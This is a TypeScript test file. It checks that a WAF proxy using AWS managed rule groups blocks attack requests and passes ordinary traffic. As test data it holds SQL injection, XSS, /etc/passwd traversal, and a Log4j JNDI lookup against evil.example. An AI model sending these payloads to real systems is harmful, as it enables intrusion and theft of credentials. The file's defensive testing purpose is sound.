/**
 * AWS managed rule groups enforced by the proxy: a web ACL made through @aws-sdk/client-wafv2 with
 * AWSManagedRulesCommonRuleSet, AWSManagedRulesSQLiRuleSet and AWSManagedRulesKnownBadInputsRuleSet,
 * associated with a proxy in front of a test app; real attacks are blocked with the group's labels,
 * benign requests pass, and a RuleActionOverrides Count lets one rule's matches through.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { AssociateWebACLCommand, CreateWebACLCommand, GetWebACLCommand, ListWebACLsCommand, UpdateWebACLCommand, type Rule, type RuleActionOverride } from '@aws-sdk/client-wafv2';
import { startProxy, type RunningProxy } from '../../src/dataplane/proxy/proxy-server.js';
import { startTestServer, type TestServer } from '../helpers/rampart.js';
import { send, startUpstream, within, type Upstream } from './waf-proxy-support.js';
import { vis, waf } from './wafv2-support.js';

let s: TestServer;
let app: Upstream;
let proxy: RunningProxy;

const managed = (name: string, priority: number, overrides?: RuleActionOverride[]): Rule => ({
  Name: name, Priority: priority, VisibilityConfig: vis(name), OverrideAction: { None: {} },
  Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: name, ...(overrides ? { RuleActionOverrides: overrides } : {}) } },
});

before(async () => {
  s = await startTestServer();
  app = await startUpstream();
  const c = waf(s);
  const acl = await c.send(new CreateWebACLCommand({
    Name: 'managed-acl', Scope: 'REGIONAL', DefaultAction: { Allow: {} }, VisibilityConfig: vis('acl'),
    Rules: [managed('AWSManagedRulesCommonRuleSet', 1), managed('AWSManagedRulesSQLiRuleSet', 2), managed('AWSManagedRulesKnownBadInputsRuleSet', 3)],
  }));
  proxy = await startProxy({ store: s.runtime.store, accountId: s.accountId, region: 'us-east-1', name: 'managed-shop', host: '127.0.0.1', port: 0, upstream: app.url, log: () => {} });
  await c.send(new AssociateWebACLCommand({ WebACLArn: acl.Summary!.ARN!, ResourceArn: proxy.albArn }));
  await within(1000, async () => (await send(proxy.url, "/items?id=1%27%20OR%20%271%27%3D%271", { headers: { host: 'shop.example.com', 'user-agent': 'test' } })).status === 403);
});

after(async () => {
  await proxy?.close();
  await app?.close();
  await s?.close();
});

/** A real host name: KnownBadInputs' Host_localhost_HEADER blocks requests naming localhost, as the proxy's own address would. */
const host = { host: 'shop.example.com' };
const ua = { ...host, 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) rampart-test' };

describe('WAF proxy: AWS managed rule groups', () => {
  it('blocks SQL injection, XSS, path traversal and Log4j lookups; lets ordinary traffic through', async () => {
    assert.equal((await send(proxy.url, '/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', { headers: ua })).status, 403, 'SQLi in a query argument');
    assert.equal((await send(proxy.url, '/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', { headers: ua })).status, 403, 'XSS in a query argument');
    assert.equal((await send(proxy.url, '/download?file=..%2F..%2F..%2Fetc%2Fpasswd', { headers: ua })).status, 403, 'traversal');
    assert.equal((await send(proxy.url, '/', { headers: { ...ua, 'x-api-version': '${jndi:ldap://evil.example/a}' } })).status, 403, 'Log4j in a header');
    assert.equal((await send(proxy.url, '/', { headers: host })).status, 403, 'NoUserAgent_HEADER');
    for (const path of ['/', '/products?category=shoes&page=2', '/search?q=select+a+union+rep', '/blog/o%27reilly-books']) {
      assert.equal((await send(proxy.url, path, { headers: ua })).status, 200, path);
    }
  });

  it('a JSON body sent again is judged from its runs\' kept verdicts, and a changed value in it is judged afresh', async () => {
    const json = { ...ua, 'content-type': 'application/json' };
    const order = (note: string, extra = '') =>
      `{${Array.from({ length: 60 }, (_, i) => `"line_${i}":{"sku":"SKU-${i}","qty":${i % 5},"colour":"dark blue"}`).join(',')},"note":"${note}"${extra}}`;
    const post = async (body: string) => (await send(proxy.url, '/orders', { method: 'POST', headers: json, body })).status;
    for (let i = 0; i < 3; i++) assert.equal(await post(order('leave at the door')), 200, 'the same benign order');
    assert.equal(await post(order("x' UNION SELECT password FROM users--")), 403, 'the same order, its note an injection');
    assert.equal(await post(order('leave at the door', ',"line_7":{"sku":"<script>alert(1)</script>"}')), 403, 'a duplicated key with a script');
    assert.equal(await post(order('leave at the door')), 200, 'benign again');
    assert.equal(await post(order("x' UNION SELECT password FROM users--")), 403, 'the injection again, from its kept verdicts');
    assert.equal(await post(`[${Array(1001).fill('"a"').join(',')},"x' UNION SELECT password FROM users--"]`), 403, 'an injection after 1,001 padding strings');
    assert.equal(await post(`[${Array(1001).fill('"a\\n"').join(',')},"x' UNION SELECT password FROM users--"]`), 403, 'the same with escapes (the general scanner)');
    // Escaped: the general scanner decodes the strings (no runs).
    assert.equal(await post(order("x\\u0027 UNION SELECT password FROM users--")), 403, 'the injection behind a JSON escape');
  });

  it('a RuleActionOverrides Count on one rule lets its matches through (the other rules still block)', async () => {
    const c = waf(s);
    const list = await c.send(new GetWebACLCommand({ Name: 'managed-acl', Scope: 'REGIONAL', Id: await aclId() }));
    const acl = list.WebACL!;
    await c.send(new UpdateWebACLCommand({
      Name: 'managed-acl', Scope: 'REGIONAL', Id: acl.Id!, LockToken: list.LockToken!, DefaultAction: acl.DefaultAction!, VisibilityConfig: acl.VisibilityConfig!,
      Rules: [managed('AWSManagedRulesCommonRuleSet', 1, [{ Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } }]), managed('AWSManagedRulesSQLiRuleSet', 2), managed('AWSManagedRulesKnownBadInputsRuleSet', 3)],
    }));
    await within(1000, async () => (await send(proxy.url, '/', { headers: host })).status === 200);
    assert.equal((await send(proxy.url, '/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', { headers: host })).status, 403);
  });
});

async function aclId(): Promise<string> {
  const l = await waf(s).send(new ListWebACLsCommand({ Scope: 'REGIONAL' }));
  return l.WebACLs!.find((a) => a.Name === 'managed-acl')!.Id!;
}
